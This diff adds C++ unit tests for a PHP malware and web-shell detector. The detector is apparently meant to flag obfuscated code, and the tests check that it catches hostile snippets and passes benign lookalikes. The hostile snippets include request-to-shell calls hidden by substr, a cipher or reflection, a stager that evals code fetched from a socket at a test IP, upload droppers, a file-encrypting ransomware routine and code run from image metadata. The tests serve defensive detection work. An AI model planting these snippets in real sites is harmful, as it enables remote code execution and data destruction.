@@ -243,5 +243,228 @@ TEST(PhpTaint, StreamWrapperBypassesAndSelfRewrites) {
       Has(Traits("<?php file_put_contents(__FILE__, '<?php exit; ?>');"), "php.rewrites_itself"));
 }
 
+TEST(PhpTaint, NamesCutOutOfDecoyWordsAreFolded) {
+  // A shell function's name cut out of a longer word with substr(), then called as a string.
+  auto cut = Traits(
+      "<?php $run = function() { $m = 'plaxsystemq';"
+      " (substr($m, 4, 3) . substr($m, -4, 3))($_REQUEST['x']); }; $run();");
+  EXPECT_TRUE(Has(cut, "php.request_to_shell"));
+  EXPECT_GE(Alone(cut, "exec"), 4);
+  // The fold follows PHP: negative start and length count from the end.
+  auto n = Normalize(
+      "<?php echo substr('abcdef', 1, 2), substr('abcdef', -3), "
+      "substr('abcdef', 0, -4), substr('abc', 9);",
+      CodeKind::kPhp);
+  ASSERT_FALSE(n.layers.empty());
+  EXPECT_NE(n.layers[0].text.find("'bc','def','ab',''"), std::string::npos) << n.layers[0].text;
+  // substr() of the application's own values calls nothing.
+  auto plain = Traits(
+      "<?php $t = substr('Products and more', 0, 8); echo htmlspecialchars($t);"
+      " echo substr($_GET['q'], 0, 20);");
+  EXPECT_EQ(Alone(plain, "exec"), 0);
+}
+
+TEST(PhpTaint, ConnectionsOpenedThroughANameInAVariable) {
+  // A stager trying one socket function after another through a variable, then running the
+  // code the connection sends.
+  auto stager = Traits(
+      "<?php if (($f = 'stream_socket_client') && is_callable($f)) { $s = "
+      "$f('tcp://192.0.2.7:81'); }"
+      " $n = fread($s, 4); $code = ''; while (strlen($code) < 100) { $code .= fread($s, 100); }"
+      " eval($code);");
+  EXPECT_TRUE(Has(stager, "php.back_connect_shell"));
+  // The same variable call fetching a status line that is only printed runs nothing.
+  auto client = Traits(
+      "<?php $f = 'fsockopen'; $s = $f('status.example.com', 80); fwrite($s, \"GET / "
+      "HTTP/1.0\\r\\n\\r\\n\");"
+      " echo htmlspecialchars(fread($s, 512));");
+  EXPECT_FALSE(Has(client, "php.back_connect_shell"));
+  EXPECT_LT(Alone(client, "exec"), 3);
+}
+
+TEST(PhpTaint, UploadsSavedAsPagesOrWhereTheRequestSays) {
+  EXPECT_TRUE(Has(Traits("<?php move_uploaded_file($_FILES['f']['tmp_name'], 'cache/s.php');"),
+                  "php.upload_to_php"));
+  auto anywhere = Traits("<?php copy($_FILES['f']['tmp_name'], $_POST['to']); echo 'done';");
+  EXPECT_TRUE(Has(anywhere, "php.upload_to_request_path"));
+  EXPECT_GE(Alone(anywhere, "upload"), 3);
+  // A store saving an upload under its own directory and a name it makes is not a dropper.
+  auto shop = Traits(
+      "<?php $name = md5_file($_FILES['img']['tmp_name']) . '.jpg';"
+      " move_uploaded_file($_FILES['img']['tmp_name'], MEDIA_DIR . '/' . $name);");
+  EXPECT_FALSE(Has(shop, "php.upload_to_php"));
+  EXPECT_FALSE(Has(shop, "php.upload_to_request_path"));
+  EXPECT_LT(Alone(shop, "upload"), 3);
+}
+
+TEST(PhpTaint, ExecutionSinksCalledByReflection) {
+  auto shell = Traits(
+      "<?php $r = new ReflectionFunction('passthru'); $r->invokeArgs(array($_COOKIE['k']));");
+  EXPECT_TRUE(Has(shell, "php.request_to_reflected_sink"));
+  EXPECT_GE(Alone(shell, "exec"), 4);
+  // Reflection over the application's own functions (a DI container) is not a sink.
+  auto di = Traits(
+      "<?php $r = new ReflectionFunction($handler); $r->invokeArgs(array($_GET['id']));"
+      " $p = new ReflectionFunction('strlen'); echo $p->getNumberOfParameters();");
+  EXPECT_FALSE(Has(di, "php.request_to_reflected_sink"));
+}
+
+TEST(PhpTaint, ValuesBeforeALoopOrAParameterAreNotFoldedIntoThem) {
+  // A decoder accumulating in a loop: the value before the loop is not what the body sees, so
+  // the evaluator runs the real loop (a shift cipher of 'bttfsu' gives 'assert').
+  auto cipher = Traits(
+      "<?php function dec($s) { $c = ''; for ($i = 0; $i < strlen($s); $i++) {"
+      " $c = $c . chr(ord(substr($s, $i, 1)) - 1); } return $c; }"
+      " $p = $_POST['p']; call_user_func_array(dec('bttfsu'), array($p));");
+  EXPECT_TRUE(Has(cipher, "php.request_to_exec"));
+  // A parameter keeps its name in its declaration (uses in the body follow the file-wide
+  // constant: scripts pass their globals to their functions under the same names).
+  auto n = Normalize(
+      "<?php $code = ''; function run($code) { return trim($code); }"
+      " $t = ''; while ($x) { $t = $t . 'a'; }",
+      CodeKind::kPhp);
+  ASSERT_FALSE(n.layers.empty());
+  EXPECT_NE(n.layers[0].text.find("function run($code)"), std::string::npos) << n.layers[0].text;
+  EXPECT_NE(n.layers[0].text.find("$t=$t.'a'"), std::string::npos) << n.layers[0].text;
+}
+
+TEST(PhpTaint, ValuesFlowAroundFunctionsAndOutOfBranchesAsPhpRunsThem) {
+  // A value set before a function definition still holds after it (the definition runs
+  // nothing); one set inside an if may or may not hold after the block.
+  auto n = Normalize(
+      "<?php $k = 'abc'; $k = 'passthru'; function f() { $k = 'x'; return $k; }"
+      " $k($_GET['c']); $m = 'one'; $m = 'two'; if ($z) { $m = 'three'; } echo $m;",
+      CodeKind::kPhp);
+  ASSERT_FALSE(n.layers.empty());
+  EXPECT_NE(n.layers[0].text.find("passthru($_GET['c'])"), std::string::npos) << n.layers[0].text;
+  EXPECT_NE(n.layers[0].text.find("echo $m"), std::string::npos) << n.layers[0].text;
+}
+
+TEST(PhpTaint, FunctionsThatOnlyReturnALiteralFold) {
+  // Code split between a literal and a function returning the rest of it.
+  auto split = Traits(
+      "<?php function part() { $q = \"\\$_REQ\"; return 'l(' . $q . \"UEST['k']\"; }"
+      " assert('eva' . part() . ');');");
+  EXPECT_TRUE(Has(split, "php.request_to_exec"));
+  // Functions with parameters, branches or more than one definition, and methods, are not
+  // constants.
+  auto n = Normalize(
+      "<?php function a() { return 'x'; } function a2($v) { return 'y'; }"
+      " function b() { if ($z) { return 'p'; } return 'q'; } echo a(), a2(1), b(), $o->a();",
+      CodeKind::kPhp);
+  ASSERT_FALSE(n.layers.empty());
+  EXPECT_NE(n.layers[0].text.find("'x',a2(1),b(),$o->a()"), std::string::npos) << n.layers[0].text;
+}
+
+TEST(PhpTaint, VariablesImportedThroughSuperglobalNames) {
+  // register_globals emulated by walking the superglobals by name: every undefined variable
+  // may come from the request, here one handed to a function that evaluates it.
+  auto shell = Traits(
+      "<?php foreach (array('_GET', '_COOKIE') as $src) { foreach ($$src as $k => $v) {"
+      " $$k = $v; } } function run($c) { eval($c); } run($payload);");
+  EXPECT_TRUE(Has(shell, "php.request_to_exec"));
+  // Cleaning the superglobals in place evaluates nothing.
+  auto clean = Traits(
+      "<?php foreach (array('_GET', '_POST') as $src) { foreach ($$src as $k => $v) {"
+      " $clean[$k] = strip_tags($v); } } echo count($clean);");
+  EXPECT_EQ(Alone(clean, "exec"), 0);
+}
+
+TEST(PhpTaint, FunctionsMadeToEvaluateTheirArgument) {
+  auto made = Traits(
+      "<?php $cb = create_function('$x, $y', 'return assert($x);');"
+      " $m = new Memcache(); $m->addServer('localhost', 11211, true, 1, 1, -1, true, $cb);"
+      " $m->connect($_REQUEST['h'], 11211);");
+  EXPECT_TRUE(Has(made, "php.evaluator_function"));
+  EXPECT_GE(Alone(made, "exec"), 3);
+  // An old sort callback made with create_function runs no code of its caller's choosing.
+  auto sort = Traits(
+      "<?php usort($rows, create_function('$a, $b', 'return strcmp($a[\"n\"], $b[\"n\"]);'));"
+      " echo $_GET['page'];");
+  EXPECT_FALSE(Has(sort, "php.evaluator_function"));
+}
+
+TEST(PhpTaint, SinksNamedAtTheCallOfTheFilesOwnFunction) {
+  auto wrapped = Traits(
+      "<?php function relay($fn, $args) { return call_user_func_array($fn, $args); }"
+      " relay('system', array($_POST['c']));");
+  EXPECT_TRUE(Has(wrapped, "php.request_to_exec"));
+  // The same wrapper called with the application's own callback, or a sink's name passed
+  // to a function that only logs it, is not execution.
+  auto app = Traits(
+      "<?php function relay($fn, $args) { return call_user_func_array($fn, $args); }"
+      " relay('htmlspecialchars', array($_POST['c']));"
+      " function note($kind, $msg) { error_log($kind . ': ' . $msg); } note('system', "
+      "$_GET['m']);");
+  EXPECT_FALSE(Has(app, "php.request_to_exec"));
+}
+
+TEST(PhpTaint, CodeReturnedByAFunctionCalledThroughAVariable) {
+  // The decoder's name is hidden in a variable and what it returns is run: two traits.
+  auto hidden = Traits(
+      "<?php $d = preg_filter('/\\s+/', '', 'base 64 _ deco de'); $c = $d($blob); @eval($c);");
+  EXPECT_TRUE(Has(hidden, "obfuscation.runs_variable_call_result"));
+  // A template engine evaluating what its own compiler method returned is neither.
+  auto engine = Traits("<?php $code = $this->compile($src); eval('?>' . $code);");
+  EXPECT_FALSE(Has(engine, "obfuscation.runs_variable_call_result"));
+}
+
+TEST(PhpTaint, FilesOverwrittenWithEncryptedCopiesOfThemselves) {
+  auto ransom = Traits(
+      "<?php function lock($dir, $key) { foreach (scandir($dir) as $f) { $p = $dir . '/' . $f;"
+      " if (is_dir($p)) { lock($p, $key); continue; } $plain = file_get_contents($p);"
+      " $iv = random_bytes(16);"
+      " $c = base64_encode($iv . openssl_encrypt($plain, 'aes-256-cbc', $key, 0, $iv));"
+      " file_put_contents($p, $c); rename($p, $p . '.locked'); } } lock('.', 'k');");
+  EXPECT_TRUE(Has(ransom, "php.encrypts_files_in_place"));
+  EXPECT_GE(Alone(ransom, "ransom"), 3);
+  // Encrypting a settings value into another file, or re-saving a file as it was read, is
+  // not ransomware.
+  auto vault = Traits(
+      "<?php $cfg = file_get_contents('config.json'); foreach (glob('*.json') as $g) { echo $g; }"
+      " $sealed = openssl_encrypt($cfg, 'aes-256-gcm', $k, 0, $iv, $tag);"
+      " file_put_contents($vault_path, $sealed); $raw = file_get_contents($f);"
+      " file_put_contents($f, trim($raw));");
+  EXPECT_FALSE(Has(vault, "php.encrypts_files_in_place"));
+}
+
+TEST(PhpTaint, CodeHiddenInImageMetadata) {
+  auto exif = Traits(
+      "<?php $m = exif_read_data('media/logo.jpg'); preg_replace($m['Software'], $m['Artist'], "
+      "'');");
+  EXPECT_TRUE(Has(exif, "php.runs_image_metadata"));
+  EXPECT_GE(Alone(exif, "exec"), 3);
+  // A gallery printing the camera model, cleaned by a literal pattern, runs nothing.
+  auto gallery = Traits(
+      "<?php $m = exif_read_data($path); echo preg_replace('/[^a-z0-9 ]/i', '', $m['Model']);");
+  EXPECT_FALSE(Has(gallery, "php.runs_image_metadata"));
+}
+
+TEST(PhpTaint, ImportRequestVariablesIsRegisterGlobals) {
+  auto shell = Traits(
+      "<?php if (!ini_get('register_globals')) { import_request_variables('GPC'); }"
+      " if ($act == 'del') { unlink($target); } else { $h = fopen($target, 'w');"
+      " fwrite($h, $body); } echo implode(',', scandir($dir));");
+  EXPECT_TRUE(Has(shell, "php.request_file_manager"));
+  // Without the import, the same names are the script's own (nothing flags them as request).
+  auto own = Traits(
+      "<?php $target = __DIR__ . '/cache.txt'; $body = date('c'); $dir = __DIR__;"
+      " $h = fopen($target, 'w'); fwrite($h, $body); echo implode(',', scandir($dir));");
+  EXPECT_FALSE(Has(own, "php.request_file_manager"));
+}
+
+TEST(PhpTaint, RequestInputWrittenToAStreamAndReadBack) {
+  auto memory = Traits(
+      "<?php $m = fopen('php://memory', 'w+'); fwrite($m, $_POST['c']); rewind($m);"
+      " eval(stream_get_contents($m));");
+  EXPECT_TRUE(Has(memory, "php.request_to_exec"));
+  // A log line with the request's path written to a log file runs nothing.
+  auto log = Traits(
+      "<?php $h = fopen(LOG_DIR . '/access.log', 'a'); fwrite($h, $_GET['page'] . "
+      "\"\\n\");"
+      " fclose($h); include __DIR__ . '/footer.php';");
+  EXPECT_EQ(Alone(log, "exec"), 0);
+}
+
 }  // namespace
 }  // namespace tq::webroot
